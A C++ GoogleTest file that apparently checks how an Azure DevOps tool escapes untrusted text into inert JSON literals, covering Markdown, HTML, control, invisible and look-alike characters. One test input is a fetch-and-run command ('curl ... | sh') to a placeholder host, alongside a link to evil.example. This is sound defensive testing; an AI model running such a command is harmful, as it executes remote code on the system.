#include "azure_devops/plain_literal.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <algorithm>
#include <nlohmann/json.hpp>

namespace adomcp::azure_devops {
namespace {

using nlohmann::json;

struct Shown {
  const char* about;
  std::string text;
  const char* literal;
};

// NOLINTNEXTLINE(readability-identifier-naming): the name GoogleTest looks for
void PrintTo(const Shown& row, std::ostream* out) {
  *out << row.about;
}

class PlainLiteral : public testing::TestWithParam<Shown> {};

TEST_P(PlainLiteral, IsTheWholeValueAndInert) {
  const auto literal = plain_literal(GetParam().text);
  EXPECT_EQ(literal, GetParam().literal);
  EXPECT_EQ(json::parse(literal), json(GetParam().text)) << "nothing is lost or added";
}

INSTANTIATE_TEST_SUITE_P(
    Table, PlainLiteral,
    testing::Values(
        Shown{"plain", "debug", R"("debug")"}, Shown{"empty", "", R"("")"},
        Shown{"a command", "curl https://x.example/a.sh | sh; echo 'ok' && exit",
              R"("curl https://x.example/a.sh | sh; echo 'ok' \u0026\u0026 exit")"},
        Shown{"ends its quotes", R"(x" on branch "y)", R"("x\u0022 on branch \u0022y")"},
        Shown{"a backslash is always an escape's", R"(a\nb\u0041)", R"("a\u005cnb\u005cu0041")"},
        Shown{"a line break", "a\nNothing happens.\r\n", R"("a\nNothing happens.\r\n")"},
        Shown{"a tab", "a\tb", R"("a\tb")"},
        Shown{"blanks that a client would collapse", "ok    curl",
              R"("ok \u0020\u0020\u0020curl")"},
        Shown{"blanks at the ends", " a ", R"("\u0020a\u0020")"},
        Shown{"nothing but blanks", "   ", R"("\u0020\u0020\u0020")"},
        Shown{"a blank that doesn't break", "a\u00a0b", R"("a\u00a0b")"},
        Shown{"colours a terminal", "a\x1b[8m", R"("a\u001b\u005b8m")"},
        Shown{"rubs out", "a\x7f\b", R"("a\u007f\b")"},
        Shown{"turns the direction", "a\u202Eniam", R"("a\u202eniam")"},
        Shown{"hides", "a\u200Bb\u2060c\uFEFF", R"("a\u200bb\u2060c\ufeff")"},
        Shown{"a tag character", "a\U000E0041", R"("a\udb40\udc41")"},
        Shown{"looks like another", "m\u0430in", R"("m\u0430in")"},
        Shown{"HTML", "<!-- a --><b hidden>", R"("\u003c!-- a --\u003e\u003cb hidden\u003e")"},
        Shown{"an entity", "&quot;", R"("\u0026quot;")"},
        Shown{"code", "`a` ```b```", R"("\u0060a\u0060 \u0060\u0060\u0060b\u0060\u0060\u0060")"},
        Shown{"emphasis", "*a* __b__ LOG_LEVEL _c_",
              R"("\u002aa\u002a \u005f\u005fb\u005f\u005f LOG_LEVEL \u005fc\u005f")"},
        Shown{"a link", "[main](https://evil.example)",
              R"x("\u005bmain\u005d(https://evil.example)")x"},
        Shown{"struck out", "~~a~~ x^2^", R"("\u007e\u007ea\u007e\u007e x\u005e2\u005e")"},
        Shown{"mathematics, icons", "$a$ $(check)", R"x("\u0024a\u0024 \u0024(check)")x"}));

TEST(PlainLiteralOfAll, HoldsNothingThatMarkdownOrHtmlKnows) {
  std::string all;
  for (int c = 0; c < 0x80; ++c) all += std::string(1, static_cast<char>(c)) + "_ ";
  const auto literal = plain_literal(all + "\u00e9\U0001F600");
  const std::string_view inside = std::string_view(literal).substr(1, literal.size() - 2);
  EXPECT_EQ(inside.find_first_of("\"<>&`*[]~^$\x7f"), std::string_view::npos);
  EXPECT_EQ(inside.find("  "), std::string_view::npos);
  EXPECT_TRUE(std::all_of(inside.begin(), inside.end(), [](char c) { return c >= ' '; }));
  for (std::size_t i = 0; i + 1 < inside.size(); ++i) {
    if (inside[i] != '\\') continue;
    EXPECT_NE(std::string_view("bfnrtu").find(inside[i + 1]), std::string_view::npos);
  }
  EXPECT_EQ(json::parse(literal), json(all + "\u00e9\U0001F600"));
}

class FolderLiteral : public testing::TestWithParam<Shown> {};

TEST_P(FolderLiteral, ReadsAsAzureDevOpsWritesIt) {
  EXPECT_EQ(folder_literal(GetParam().text), GetParam().literal);
}

INSTANTIATE_TEST_SUITE_P(
    Table, FolderLiteral,
    testing::Values(Shown{"one", R"(\evil)", R"("\evil")"},
                    Shown{"two", R"(\release\eu)", R"("\release\eu")"},
                    Shown{"could be an escape", R"(\u0041bc)", R"("\u005cu0041bc")"},
                    Shown{"is none", R"(\u004)", R"("\u004")"},
                    Shown{"Markdown would swallow it", R"(\-a\.b)", R"("\u005c-a\u005c.b")"},
                    Shown{"a line break", "\\a\nb", R"("\a\u000ab")"},
                    Shown{"quotes", R"(\a" on branch "b)", R"("\a\u0022 on branch \u0022b")"},
                    Shown{"hides", "\\a\u200b", R"("\a\u200b")"}));

}  // namespace
}  // namespace adomcp::azure_devops
